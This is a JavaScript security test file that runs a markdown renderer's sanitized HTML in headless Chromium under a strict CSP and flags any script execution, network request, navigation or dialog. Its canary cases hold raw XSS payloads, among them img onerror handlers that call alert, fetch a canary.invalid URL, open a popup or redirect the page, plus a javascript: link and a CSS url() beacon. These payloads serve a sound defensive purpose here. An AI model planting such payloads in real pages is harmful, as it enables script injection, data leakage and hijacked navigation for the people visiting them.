// Browser oracle of the security suite.
//
// Every `html` in tests/security/cases.json (the renderer's sanitized output)
// is put into a real headless Chromium and poked at; the test fails if any of
// it runs script, navigates, loads something other than an image, or calls a
// dialog.
//
// The page. A static server on 127.0.0.1 (ephemeral port) serves the test page
// with an ENFORCING Content-Security-Policy:
//   default-src 'none'; script-src 'nonce-<random>'; style-src 'unsafe-inline';
//   img-src 'self' data: blob: http: https:; base-uri 'none'; form-action 'none';
//   report-uri /csp-report?g=<group>
// so only the page's own instrumentation script (carrying the nonce) runs.
// img-src is the renderer's documented `src` policy (http, https, relative,
// data:, blob:), so allowed remote images reach the request interceptor, which
// aborts them; base-uri/form-action turn a smuggled <base> or form into a
// violation. Each case is inserted twice: (a) `container.innerHTML = html`,
// (b) written with document.open/write/close into a same-origin about:blank
// iframe (which inherits the CSP; document.write also runs the real parser,
// so a surviving <script> would be fetched/executed there). Then, for every
// inserted element: focus(), mouseover/mouseenter/pointerover/pointerenter
// events and click(); then Playwright's real mouse hovers and clicks up to
// MOUSE_CAP elements per case that have a box.
//
// What is detected, and where:
//   - dialogs: alert/confirm/prompt are wrapped in the page and in each
//     iframe (the call is recorded, then the real one runs), print() is
//     recorded only; page.on('dialog') catches real dialogs from any frame;
//   - CSP: `securitypolicyviolation` listeners (page and each iframe) AND the
//     reports the browser POSTs to /csp-report?g=<group>, kept by the server;
//   - network: every request of the browser context is routed; nothing leaves
//     the machine (a navigation of the test page or its iframes gets an empty
//     204, which cancels it and keeps the page; all other non-local requests
//     are aborted). Allowed: an image request for the src of an inserted
//     <img> (remote ones: "allowed and blocked") or a data:/blob: image; a
//     navigation, after interaction began, to the http(s) href of a link that
//     got a click (a capture-phase click listener notes those; following a
//     link is what links are for). Inside the about:blank iframe such a link
//     is stopped earlier by the inherited frame-src 'none': that violation,
//     reported on the main document for a clicked link's URL, is allowed too.
//     Anything else is a finding: fetches, styles, fonts, frames, forms, CSS
//     url() images, navigations nobody clicked for;
//   - navigation: main-frame `framenavigated` after load (other than a
//     same-document #fragment jump), popups (context 'page', and any
//     navigation of a window that is not the test page), window.open calls;
//   - script execution: the canary global `window.__pwned` (page and iframes)
//     must stay undefined;
//   - anything arriving between groups or after its group was judged (a late
//     CSP report, a late popup) fails the last test.
//
// Cases run in groups (one fresh page per group) to keep the run short; when a
// group has any finding, each of its cases is run again alone so that the
// failure names the case that caused it.
//
// The canary: in the same run, raw payloads that never went through the
// renderer (`<img src=x onerror=alert(1)>`, a clicked `javascript:` link, a
// CSS url() beacon) are fed to the same harness on the CSP page; each must be
// caught (CSP violation event + report, unexpected request), else the test
// fails with "detector is blind". On a second page route served WITHOUT the
// CSP, an onerror payload must be caught as a real dialog, a `__pwned` write,
// a fetch, a popup and a navigation: this proves those detectors work too,
// not only CSP. Benign controls (links of every allowed kind, remote and data:
// images, <details>) must produce no finding, so the allowances above are
// exercised as well.

import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import http from 'node:http';
import { randomBytes } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { chromium } from 'playwright-core';

const ROOT = new URL('../../', import.meta.url);
// SECURITY_CASES=path runs another file of the same shape (for trying the oracle).
const CASES_FILE = process.env.SECURITY_CASES
  ? new URL(process.env.SECURITY_CASES, `file://${process.cwd()}/`)
  : new URL('tests/security/cases.json', ROOT);
const CHROMIUM = process.env.CHROMIUM_PATH || '/usr/bin/chromium';
const CHROMIUM_ARGS = [
  '--headless',
  '--no-sandbox',
  '--disable-gpu',
  '--disable-background-networking',
  '--disable-component-update',
  '--disable-sync',
];

const GROUP_SIZE = 20; // cases per fresh page
const SETTLE_MS = 80; // after insertion and after interaction, for async effects
const MOUSE_CAP = 50; // real-mouse hover+click per case
const SYNTHETIC_CAP = 5000; // synthetic focus/hover/click per case and variant
const IMAGE_WAIT_MS = 3000; // at most, for inserted images to load or fail
const REPORT_WAIT_MS = 1500; // at most, for CSP reports to catch up with events

// ---------------------------------------------------------------- server ----

const HARNESS_JS = String.raw`
(() => {
  'use strict';
  const log = [];
  let current = null; // {c, v}: case index and variant being worked on
  const clicked = []; // hrefs of links that received a click (any source)
  const slots = [];
  const record = (kind, detail, where, extra) => log.push(Object.assign(
    { kind, detail, c: where ? where.c : current && current.c, v: where ? where.v : current && current.v },
    extra || {}));

  // Which case does a node of the main document belong to?
  function whereOf(node) {
    const slot = node && node.closest ? node.closest('[data-slot]') : null;
    if (!slot) return null;
    const c = Number(slot.dataset.slot);
    return { c, v: node.localName === 'iframe' && node === slots[c].frame ? 'iframe-element' : 'innerHTML' };
  }

  function instrument(win, where) {
    for (const name of ['alert', 'confirm', 'prompt']) {
      const orig = win[name];
      win[name] = function (...args) {
        record('dialog-call', name + '(' + args.map(String).join(', ').slice(0, 80) + ')', where);
        return orig.apply(win, args);
      };
    }
    win.print = function () { record('dialog-call', 'print()', where); };
    const open = win.open;
    win.open = function (...args) {
      record('window-open', 'window.open(' + args.map(String).join(', ').slice(0, 120) + ')', where);
      return open.apply(win, args);
    };
    win.addEventListener('securitypolicyviolation', (e) => {
      const w = where || whereOf(e.target) || current;
      record('csp-event', e.effectiveDirective + ' blocked ' + e.blockedURI +
        (e.sample ? ' sample=' + JSON.stringify(e.sample.slice(0, 60)) : ''), w, {
        directive: e.effectiveDirective,
        blocked: e.blockedURI,
        target: e.target && (e.target.nodeName || String(e.target)),
        // a nested navigation of one of the harness's own iframes
        // (reported on the main document itself, not on an element)
        harnessFrame: !where && e.target === document,
      });
    }, true);
    // Every click that reaches a document (synthetic or real) notes the link
    // it activates; never prevented.
    win.addEventListener('click', (e) => {
      const a = e.target && e.target.closest ? e.target.closest('a[href], area[href]') : null;
      if (a) clicked.push(String(a.href));
    }, true);
  }
  instrument(window, null);

  function insert(htmls) {
    const root = document.getElementById('cases');
    for (const [c, html] of htmls.entries()) {
      const box = document.createElement('div');
      box.className = 'slot';
      box.dataset.slot = String(c);
      const container = document.createElement('div');
      const frame = document.createElement('iframe');
      box.append(container, frame);
      root.append(box);
      slots[c] = { container, frame };
      current = { c, v: 'innerHTML' };
      container.innerHTML = html;
      current = { c, v: 'iframe' };
      const doc = frame.contentDocument;
      doc.open();
      // document.open() erases the listeners of the document and its window,
      // so the iframe is instrumented between open() and write().
      instrument(frame.contentWindow, { c, v: 'iframe' });
      doc.write(html);
      doc.close();
      current = null;
    }
    fitFrames();
    return slots.length;
  }

  // Inserted images still loading (or failing): their load and error
  // handlers have not all run yet.
  function pending() {
    let n = 0;
    for (const c of slots.keys()) {
      for (const v of ['innerHTML', 'iframe']) {
        for (const el of elementsOf(c, v)) if (el.localName === 'img' && el.loading !== 'lazy' && !el.complete) n++;
      }
    }
    return n;
  }

  function fitFrames() {
    for (const s of slots) {
      try {
        const d = s.frame.contentDocument;
        s.frame.style.height = Math.min(4000, Math.max(20, d.documentElement.scrollHeight)) + 'px';
      } catch (_) {}
    }
  }

  function elementsOf(c, v) {
    const s = slots[c];
    if (v === 'innerHTML') return Array.from(s.container.querySelectorAll('*'));
    let d = null;
    try { d = s.frame.contentDocument; } catch (_) {}
    return d && d.documentElement ? Array.from(d.documentElement.querySelectorAll('*')) : [];
  }

  // Synthetic: focus, hover events and click() on every element of case c.
  function poke(c, cap) {
    let n = 0;
    for (const v of ['innerHTML', 'iframe']) {
      for (const el of elementsOf(c, v).slice(0, cap)) {
        current = { c, v };
        const view = el.ownerDocument.defaultView;
        if (!view) continue;
        try { el.focus({ preventScroll: true }); } catch (_) {}
        for (const type of ['pointerover', 'pointerenter', 'mouseover', 'mouseenter', 'mousemove']) {
          const Ctor = type.startsWith('pointer') ? view.PointerEvent : view.MouseEvent;
          try {
            el.dispatchEvent(new Ctor(type, { bubbles: !type.endsWith('enter'), cancelable: true, view }));
          } catch (_) {}
        }
        try { el.click(); } catch (_) {}
        try { el.blur(); } catch (_) {}
        n++;
      }
    }
    current = null;
    return n;
  }

  // Real mouse: viewport points for elements of case c from index k on
  // (both variants in a fixed order). The k-th is scrolled to the top; the
  // points returned are those visible at once. next: where to go on, or -1.
  function targets(c, k, max) {
    const all = [...elementsOf(c, 'innerHTML').map((el) => [el, 'innerHTML']),
                 ...elementsOf(c, 'iframe').map((el) => [el, 'iframe'])];
    const points = [];
    if (k >= all.length) return { points, next: -1 };
    current = { c, v: all[k][1] };
    try { all[k][0].scrollIntoView({ block: 'start', inline: 'nearest' }); } catch (_) {}
    let i = k;
    for (; i < all.length && points.length < max; i++) {
      const [el, v] = all[i];
      const r = el.getBoundingClientRect();
      let x = r.left + Math.min(r.width / 2, 6), y = r.top + Math.min(r.height / 2, 6);
      if (v === 'iframe') {
        const f = slots[c].frame.getBoundingClientRect();
        x += f.left; y += f.top;
      }
      if (!(r.width > 0 && r.height > 0)) continue;
      if (y >= window.innerHeight) { if (i > k) break; continue; }
      if (x < 0 || y < 0 || x >= window.innerWidth) continue;
      points.push({ x, y });
    }
    current = null;
    return { points, next: i < all.length ? i : -1 };
  }

  function collect() {
    const pwned = [];
    if (window.__pwned !== undefined) pwned.push({ c: null, v: 'page', value: String(window.__pwned) });
    const images = [];
    for (const [c, s] of slots.entries()) {
      try {
        const w = s.frame.contentWindow;
        if (w && w.__pwned !== undefined) pwned.push({ c, v: 'iframe', value: String(w.__pwned) });
      } catch (_) {}
      for (const v of ['innerHTML', 'iframe']) {
        for (const el of elementsOf(c, v)) {
          if (el.localName === 'img') {
            if (el.currentSrc) images.push(el.currentSrc);
            if (el.src) images.push(el.src);
          }
        }
      }
    }
    return { log: log.splice(0), pwned, images, clicked: clicked.splice(0) };
  }

  Object.defineProperty(window, '__oracle', {
    value: Object.freeze({ insert, pending, poke, targets, collect, fitFrames }),
  });
})();
`;

function pageHtml(nonce) {
  return `<!doctype html>
<html><head><meta charset="utf-8"><title>mdx-preview security oracle</title>
<style>
  body { margin: 0; font: 14px sans-serif; }
  .slot { display: flex; gap: 8px; border-bottom: 1px solid #ccc; }
  .slot > div, .slot > iframe { flex: 1 1 50%; min-width: 0; min-height: 20px; border: 0; }
</style>
<script nonce="${nonce}" src="/harness.js"></script>
</head><body><div id="cases"></div></body></html>
`;
}

function startServer() {
  const reports = []; // { g, body, at }
  const hits = []; // every request the server saw, for the record
  const server = http.createServer((req, res) => {
    const url = new URL(req.url, 'http://127.0.0.1');
    hits.push({ method: req.method, path: url.pathname + url.search });
    if (req.method === 'POST' && url.pathname === '/csp-report') {
      const chunks = [];
      req.on('data', (d) => chunks.push(d));
      req.on('end', () => {
        let body = Buffer.concat(chunks).toString('utf8');
        try { body = JSON.parse(body); } catch (_) {}
        reports.push({ g: url.searchParams.get('g'), body, at: Date.now() });
        res.writeHead(204).end();
      });
      return;
    }
    if (req.method === 'GET' && (url.pathname === '/page' || url.pathname === '/page-nocsp')) {
      const nonce = randomBytes(16).toString('base64');
      const g = url.searchParams.get('g') || '0';
      const headers = { 'content-type': 'text/html; charset=utf-8', 'cache-control': 'no-store' };
      if (url.pathname === '/page') {
        headers['content-security-policy'] = [
          "default-src 'none'",
          `script-src 'nonce-${nonce}'`,
          "style-src 'unsafe-inline'",
          "img-src 'self' data: blob: http: https:",
          "base-uri 'none'",
          "form-action 'none'",
          `report-uri /csp-report?g=${encodeURIComponent(g)}`,
        ].join('; ');
      }
      res.writeHead(200, headers).end(pageHtml(nonce));
      return;
    }
    if (req.method === 'GET' && url.pathname === '/harness.js') {
      res.writeHead(200, { 'content-type': 'text/javascript', 'cache-control': 'no-store' }).end(HARNESS_JS);
      return;
    }
    res.writeHead(404, { 'content-type': 'text/plain' }).end('not found');
  });
  return new Promise((resolve) => {
    server.listen(0, '127.0.0.1', () => resolve({ server, reports, hits, port: server.address().port }));
  });
}

// ---------------------------------------------------------------- oracle ----

let srv;
let browser;
let page; // one page for the whole run; every group loads it afresh
let state = null; // the group being run: what the page-level listeners feed
let groupSeq = 0;
const orphans = []; // events seen while no group was running
const reportsUsed = new Map(); // group -> CSP reports it had when classified

const DEBUG = !!process.env.ORACLE_DEBUG;
const sleep = (ms) => new Promise((r) => setTimeout(r, ms));
const noHash = (u) => { try { const x = new URL(u); x.hash = ''; return x.href; } catch (_) { return u; } };
const originOf = (u) => { try { return new URL(u).origin; } catch (_) { return null; } };

before(async () => {
  srv = await startServer();
  browser = await chromium.launch({ executablePath: CHROMIUM, args: CHROMIUM_ARGS, headless: true });
  const context = await browser.newContext({ viewport: { width: 1280, height: 1000 }, serviceWorkers: 'block' });
  page = await context.newPage();
  const origin = `http://127.0.0.1:${srv.port}`;
  const local = `127.0.0.1:${srv.port}`;
  const fromNode = (kind, detail) => {
    if (state) state.events.push({ kind, detail, phase: state.phase });
    else orphans.push(`${kind}: ${JSON.stringify(detail)}`);
  };

  await context.route('**/*', async (route) => {
    const req = route.request();
    const url = req.url();
    const own = state && !state.loaded && req.isNavigationRequest() && url === state.pageUrl;
    const harness = url === `${origin}/harness.js` && req.resourceType() === 'script';
    const report = url.startsWith(`${origin}/csp-report`) && req.method() === 'POST';
    if (own || harness || report) return route.continue();
    // req.frame() throws for a popup's first navigation (no page yet).
    let frame = null;
    try { frame = req.frame(); } catch (_) {}
    fromNode('request', {
      url, type: req.resourceType(), method: req.method(),
      navigation: req.isNavigationRequest(),
      mainFrame: req.isNavigationRequest() && frame === page.mainFrame(),
    });
    // A navigation of the test page or its frames gets an empty 204, which
    // cancels it: the page stays and nothing leaves the machine. A popup's is
    // aborted (Playwright reports a popup late when its first navigation is
    // cancelled). Anything else not local is aborted.
    if (req.isNavigationRequest()) {
      if (frame && page.frames().includes(frame)) return route.fulfill({ status: 204, body: '' });
      fromNode('popup', `new window navigating to ${url}`);
      return route.abort('blockedbyclient');
    }
    let host = '';
    try { host = new URL(url).host; } catch (_) {}
    if (host === local) return route.continue();
    return route.abort('blockedbyclient');
  });
  page.on('request', (req) => {
    const url = req.url();
    // data:/blob: requests are not routed; note them here.
    if (/^(data|blob):/i.test(url)) {
      fromNode('request', { url: url.slice(0, 100), type: req.resourceType(), method: req.method(), navigation: req.isNavigationRequest() });
    }
  });
  page.on('dialog', (d) => {
    fromNode('dialog', `${d.type()}(${JSON.stringify(d.message().slice(0, 80))})`);
    d.dismiss().catch(() => {});
  });
  context.on('page', (p) => {
    if (p === page) return;
    fromNode('popup', p.url());
    p.close().catch(() => {});
  });
  page.on('framenavigated', (f) => {
    if (!state || !state.loaded || f !== page.mainFrame()) return;
    if (noHash(f.url()) === noHash(state.pageUrl)) return; // same-document #fragment jump
    fromNode('main-frame-navigation', f.url());
  });
});

after(async () => {
  if (browser) await browser.close();
  if (srv) await new Promise((r) => srv.server.close(r));
});

/**
 * Runs `htmls` on a freshly loaded page; returns { findings, allowed, stats },
 * each finding { c: case index or null when not attributable, what }.
 */
async function runGroup(htmls, { csp = true } = {}) {
  const g = String(++groupSeq);
  const origin = `http://127.0.0.1:${srv.port}`;
  const local = `127.0.0.1:${srv.port}`;
  const pageUrl = `${origin}/${csp ? 'page' : 'page-nocsp'}?g=${g}`;
  state = { g, pageUrl, phase: 'load', loaded: false, events: [] };
  const t0 = Date.now();
  const mark = (what) => { if (DEBUG) console.error(`group ${g} (${htmls.length}) ${what} +${Date.now() - t0} ms`); };

  await page.goto(pageUrl, { waitUntil: 'load' });
  state.loaded = true;

  const stats = { pokes: 0, mouse: 0 };
  const inPage = { log: [], pwned: [], images: [], clicked: [] };
  const merge = (r) => {
    inPage.log.push(...r.log);
    inPage.pwned.push(...r.pwned);
    inPage.images.push(...r.images);
    inPage.clicked.push(...r.clicked);
  };
  const away = () => noHash(page.url()) !== noHash(pageUrl) ||
    state.events.some((e) => e.kind === 'main-frame-navigation');

  try {
    state.phase = 'insert';
    await page.evaluate((h) => window.__oracle.insert(h), htmls);
    // What an inserted image's load or error handler does belongs to the
    // insertion, not to the interaction: wait for every image to finish
    // (a fixed pause was too short on a loaded machine), then settle.
    const imagesBy = Date.now() + IMAGE_WAIT_MS;
    while (Date.now() < imagesBy && !away() && await page.evaluate(() => window.__oracle.pending()) > 0) await sleep(10);
    await sleep(SETTLE_MS);
    merge(await page.evaluate(() => window.__oracle.collect()));
    mark('inserted');

    state.phase = 'interact';
    for (let c = 0; c < htmls.length && !away(); c++) {
      stats.pokes += await page.evaluate(([i, cap]) => window.__oracle.poke(i, cap), [c, SYNTHETIC_CAP]);
      let used = 0;
      for (let k = 0; k >= 0 && used < MOUSE_CAP && !away();) {
        const t = await page.evaluate(([i, j, m]) => window.__oracle.targets(i, j, m), [c, k, MOUSE_CAP - used]);
        for (const p of t.points) {
          if (away()) break;
          await page.mouse.click(p.x, p.y);
          used++;
        }
        k = t.next;
      }
      stats.mouse += used;
    }
    mark('interacted');
    await sleep(SETTLE_MS);
    if (!away()) merge(await page.evaluate(() => window.__oracle.collect()));
  } catch (err) {
    // Leaving the page destroys its context; that is recorded through
    // framenavigated. Anything else is an error of the harness.
    if (!away()) throw err;
  }
  if (away() && !state.events.some((e) => e.kind === 'main-frame-navigation')) {
    state.events.push({ kind: 'main-frame-navigation', detail: page.url(), phase: state.phase });
  }

  // CSP reports are sent asynchronously: wait until there are as many as
  // the violation events seen in the page (bounded), plus a short grace.
  const cspEvents = inPage.log.filter((e) => e.kind === 'csp-event').length;
  const groupReports = () => srv.reports.filter((r) => r.g === g);
  const deadline = Date.now() + REPORT_WAIT_MS;
  while (Date.now() < deadline && groupReports().length < cspEvents) await sleep(10);
  await sleep(30);
  mark('reports in');
  const events = state.events;
  state = null;
  reportsUsed.set(g, groupReports().length);

  // ---- classify
  const findings = [];
  const allowed = [];
  const clicked = inPage.clicked.map(noHash);
  const clickedHttp = new Set(clicked.filter((h) => /^https?:/i.test(h)));
  const clickedOrigins = new Set([...clickedHttp].map(originOf));
  const clickedOther = clicked.some((h) => !/^https?:/i.test(h));
  const images = new Set(inPage.images.map(noHash));
  // frame-src blocks a link followed inside the about:blank iframe (a nested
  // navigation): the same allowed link-follow, stopped one step earlier. The
  // blocked URI is the full URL, its origin (cross-origin), or empty (mailto:).
  const isClickedTarget = (blocked) => blocked === ''
    ? clickedOther
    : clickedHttp.has(noHash(blocked)) || clickedOrigins.has(blocked.replace(/\/$/, ''));

  let frameSrcAllowed = [];
  for (const e of inPage.log) {
    const c = Number.isInteger(e.c) ? e.c : null;
    const where = e.v ? ` [${e.v}]` : '';
    if (e.kind === 'csp-event' && e.directive === 'frame-src' && e.harnessFrame && isClickedTarget(e.blocked)) {
      allowed.push({ c, what: `link followed in iframe, stopped by frame-src: ${e.blocked || '(non-http link)'}` });
      frameSrcAllowed.push(e.blocked);
      continue;
    }
    findings.push({ c, what: e.kind === 'csp-event' ? `CSP violation event${where}: ${e.detail} target=${e.target}` : `${e.kind}${where}: ${e.detail}` });
  }
  const seenPwned = new Set();
  for (const p of inPage.pwned) {
    const what = `script ran: window.__pwned = ${p.value} [${p.v}]`;
    if (!seenPwned.has(what)) findings.push({ c: p.c, what });
    seenPwned.add(what);
  }
  for (const r of groupReports()) {
    const b = (r.body && r.body['csp-report']) || r.body || {};
    const directive = b['effective-directive'] || b['violated-directive'] || '?';
    const blocked = b['blocked-uri'] ?? '';
    const i = directive === 'frame-src' ? frameSrcAllowed.indexOf(blocked) : -1;
    if (i >= 0) { frameSrcAllowed.splice(i, 1); continue; } // the report of an allowed event
    const sample = b['script-sample'] ? ` sample=${JSON.stringify(String(b['script-sample']).slice(0, 60))}` : '';
    findings.push({ c: null, what: `CSP report: ${directive} blocked ${blocked || '(empty)'}${sample}` });
  }
  for (const e of events) {
    if (e.kind !== 'request') {
      findings.push({ c: null, what: `${e.kind}: ${typeof e.detail === 'string' ? e.detail : JSON.stringify(e.detail)}` });
      continue;
    }
    const d = e.detail;
    const scheme = d.url.slice(0, d.url.indexOf(':') + 1).toLowerCase();
    let host = '';
    try { host = new URL(d.url).host; } catch (_) {}
    if (d.type === 'image' && !d.navigation && (scheme === 'data:' || scheme === 'blob:')) {
      allowed.push({ c: null, what: `image ${d.url.slice(0, 40)}…` });
    } else if (d.type === 'image' && !d.navigation && images.has(noHash(d.url))) {
      allowed.push({ c: null, what: host === local ? `image (local) ${d.url}` : `image (remote, aborted) ${d.url}` });
    } else if (d.navigation && e.phase === 'interact' && clickedHttp.has(noHash(d.url))) {
      allowed.push({ c: null, what: `link followed, stopped with 204: ${d.url}` });
    } else {
      const why = d.type === 'image' && !d.navigation ? 'image not from an inserted <img src>' :
        d.navigation ? (e.phase === 'interact' ? 'navigation not from a clicked link' : 'navigation without any interaction') :
        'non-image request';
      findings.push({ c: null, what: `${why}: ${d.method} ${d.url} (${d.type}${d.mainFrame ? ', main frame' : ''}${host && host !== local ? ', aborted' : ''})` });
    }
  }
  mark(`done: ${findings.length} findings, ${allowed.length} allowed`);
  return { findings, allowed, stats };
}

/** Runs cases in groups; a group with findings is re-run case by case. */
async function runCases(htmls, opts = {}) {
  const perCase = htmls.map(() => ({ findings: [], allowed: [] }));
  const stats = { groups: 0, reruns: 0, pokes: 0, mouse: 0 };
  const size = opts.groupSize || GROUP_SIZE;
  const add = (i, res, prefix = '') => {
    perCase[i].findings.push(...res.findings.map((f) => prefix + f.what));
    perCase[i].allowed.push(...res.allowed.map((a) => a.what));
  };
  for (let start = 0; start < htmls.length; start += size) {
    const slice = htmls.slice(start, start + size);
    const res = await runGroup(slice, opts);
    stats.groups++;
    stats.pokes += res.stats.pokes;
    stats.mouse += res.stats.mouse;
    if (slice.length === 1) { add(start, res); continue; }
    if (res.findings.length === 0) {
      for (const a of res.allowed) perCase[start + (a.c ?? 0)].allowed.push(a.what);
      continue;
    }
    let explained = false;
    for (let i = 0; i < slice.length; i++) {
      const alone = await runGroup([slice[i]], opts);
      stats.reruns++;
      add(start + i, alone);
      if (alone.findings.length) explained = true;
    }
    if (!explained) {
      // Shows up only when the cases share a page: blame the case the page
      // could attribute it to, else every case of the group.
      for (const f of res.findings) {
        const targets = f.c !== null ? [start + f.c] : slice.map((_, i) => start + i);
        for (const t of targets) perCase[t].findings.push(`(only when run together with its group) ${f.what}`);
      }
    }
  }
  return { perCase, stats };
}

// ---------------------------------------------------------------- tests -----

const RAW_CANARIES = [
  {
    name: 'raw <img src=x onerror=alert(1)>',
    html: '<img src=x onerror="window.__pwned=1;alert(1)">',
    expect: [/^CSP violation event \[innerHTML\]: script-src-attr/, /^CSP violation event \[iframe\]: script-src-attr/,
      /^CSP report: script-src-attr blocked inline/],
  },
  {
    name: 'raw <a href="javascript:alert(2)"> (clicked)',
    html: '<a href="javascript:window.__pwned=2;alert(2)">x</a>',
    expect: [/^CSP violation event.*: script-src-elem blocked inline/, /^CSP report: script-src-elem blocked inline/],
  },
  {
    name: 'raw CSS url() beacon',
    html: '<p style="background-image:url(https://canary.invalid/beacon.png)">x</p>',
    expect: [/image not from an inserted <img src>: GET https:\/\/canary\.invalid\/beacon\.png/],
  },
];

const NO_CSP_CANARIES = [
  {
    name: 'raw onerror alert, page without CSP',
    html: '<img src=x onerror="window.__pwned=3;alert(3)">',
    expect: [/^dialog: alert\("3"\)/, /^dialog-call.*alert\(3\)/, /script ran: window\.__pwned = 3/],
  },
  {
    name: 'raw onerror fetch + window.open, page without CSP',
    html: '<img src=x onerror="fetch(\'https://canary.invalid/leak\');window.open(\'https://canary.invalid/popup\')">',
    expect: [/non-image request: GET https:\/\/canary\.invalid\/leak/, /^popup: .*canary\.invalid\/popup/, /^window-open/],
  },
  {
    name: 'raw onerror location change, page without CSP',
    html: '<img src=x onerror="location.href=\'https://canary.invalid/away\'">',
    expect: [/navigation without any interaction: GET https:\/\/canary\.invalid\/away .*main frame/],
  },
];

const CONTROLS = [
  '<p><a href="https://example.com/a" rel="noopener noreferrer">external</a> ' +
    '<a href="#user-content-x">fragment</a> <a href="relative/page">relative</a> ' +
    '<a href="mailto:someone@example.com">mail</a></p>',
  '<p><img src="https://example.com/pic.png" alt="remote"> ' +
    '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" alt="data"> <img src="local.png" alt="local"></p>',
  '<details><summary>More</summary><p><strong>x</strong> <code>y</code></p></details>' +
    '<aside class="admonition admonition-note"><p style="color:red;font-weight:bold">note</p></aside>',
];

function loadCases() {
  const data = JSON.parse(readFileSync(CASES_FILE, 'utf8'));
  assert.ok(Array.isArray(data.cases) && data.cases.length > 0, 'cases.json has no cases');
  for (const c of data.cases) {
    assert.equal(typeof c.name, 'string', 'every case has a name');
    assert.equal(typeof c.html, 'string', `case ${c.name} has an html string`);
  }
  return data.cases;
}

test('detector canaries: raw payloads without the renderer are caught', async (t) => {
  const blind = [];
  const check = (canaries, result) => {
    canaries.forEach((cn, i) => {
      const got = result.perCase[i].findings;
      for (const line of got) t.diagnostic(`canary "${cn.name}" caught: ${line}`);
      for (const re of cn.expect) {
        if (!got.some((g) => re.test(g))) {
          blind.push(`"${cn.name}": nothing matched ${re}; its findings: ${JSON.stringify(got)}`);
        }
      }
    });
  };
  // One group each, so that each canary's findings are its own.
  check(RAW_CANARIES, await runCases(RAW_CANARIES.map((c) => c.html), { groupSize: 1 }));
  check(NO_CSP_CANARIES, await runCases(NO_CSP_CANARIES.map((c) => c.html), { groupSize: 1, csp: false }));
  assert.deepEqual(blind, [], `detector is blind:\n  ${blind.join('\n  ')}`);
});

test('controls: benign output of every allowed kind gives no finding', async (t) => {
  const { perCase } = await runCases(CONTROLS, { groupSize: CONTROLS.length });
  const bad = [];
  perCase.forEach((r, i) => {
    for (const a of r.allowed) t.diagnostic(`control ${i}: allowed: ${a}`);
    for (const f of r.findings) bad.push(`control ${i}: ${f}`);
  });
  assert.deepEqual(bad, [], `false positives on benign HTML:\n  ${bad.join('\n  ')}`);
});

test('renderer outputs in tests/security/cases.json run nothing in Chromium', { timeout: 15 * 60_000 }, async (t) => {
  const cases = loadCases();
  const started = Date.now();
  const { perCase, stats } = await runCases(cases.map((c) => c.html));
  const seconds = ((Date.now() - started) / 1000).toFixed(1);
  t.diagnostic(`${cases.length} cases in ${stats.groups} groups (${stats.reruns} re-run alone), ` +
    `${stats.pokes} synthetic element pokes, ${stats.mouse} real-mouse clicks, ${seconds} s`);
  const allowedCount = perCase.reduce((n, r) => n + r.allowed.length, 0);
  if (allowedCount) t.diagnostic(`${allowedCount} allowed and stopped (remote images, followed links)`);
  for (const [i, c] of cases.entries()) {
    await t.test(c.name, () => {
      const f = perCase[i].findings;
      assert.deepEqual(f, [], `case "${c.name}" (${c.format}) is not inert:\n  ${f.join('\n  ')}\n  html: ${JSON.stringify(c.html.slice(0, 300))}`);
    });
  }
});

test('nothing happened between groups or after its group was judged', async () => {
  await sleep(300);
  const late = [];
  for (const r of srv.reports) {
    if ((reportsUsed.get(r.g) ?? 0) > 0) {
      reportsUsed.set(r.g, reportsUsed.get(r.g) - 1);
      continue;
    }
    late.push(`CSP report for group ${r.g}: ${JSON.stringify(r.body).slice(0, 200)}`);
  }
  assert.deepEqual([...orphans, ...late], [], 'events outside of any group');
});
